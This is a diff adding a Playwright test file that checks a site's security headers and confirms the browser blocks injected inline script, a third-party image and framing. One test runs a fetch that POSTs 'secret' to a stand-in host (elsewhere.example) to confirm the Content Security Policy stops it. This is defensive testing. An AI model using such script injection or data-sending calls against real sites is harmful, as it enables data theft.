@@ -1,0 +1,49 @@
+import { expect, test } from './fixtures.ts'
+
+test('the browser refuses what the policy does not name', async ({ page, complaints }) => {
+  const answer = await page.goto('/privacy')
+  expect(answer?.headers()).toMatchObject({
+    'content-security-policy': expect.stringContaining(`script-src 'self'`),
+    'x-content-type-options': 'nosniff',
+    'x-frame-options': 'DENY',
+    'referrer-policy': 'strict-origin-when-cross-origin',
+  })
+  await expect(page.getByRole('heading', { level: 1 })).toBeVisible()
+  expect(complaints).toEqual([])
+
+  await page.evaluate(() => {
+    const script = document.createElement('script')
+    script.textContent = 'window.name = "run"'
+    document.head.append(script)
+    const picture = document.createElement('img')
+    picture.src = 'https://elsewhere.example/pixel.gif'
+    picture.setAttribute('style', 'color: red')
+    document.body.append(picture)
+  })
+  const sent = await page.evaluate(() =>
+    fetch('https://elsewhere.example/', { method: 'POST', body: 'secret' }).then(
+      () => true,
+      () => false,
+    ),
+  )
+  expect(sent).toBe(false)
+  expect(await page.evaluate(() => window.name)).toBe('')
+  await expect
+    .poll(() => complaints.filter((line) => line.includes('Content Security Policy')).length)
+    .toBeGreaterThanOrEqual(3)
+  complaints.splice(0)
+})
+
+test('nobody can put the site into a frame', async ({ page, app, complaints }) => {
+  await page.route('http://elsewhere.example/', (route) =>
+    route.fulfill({
+      contentType: 'text/html',
+      body: `<iframe src="${app.url}/privacy" title="framed"></iframe>`,
+    }),
+  )
+  await page.goto('http://elsewhere.example/')
+  await expect
+    .poll(() => page.frames().map((frame) => frame.url()))
+    .toContain('chrome-error://chromewebdata/')
+  complaints.splice(0)
+})
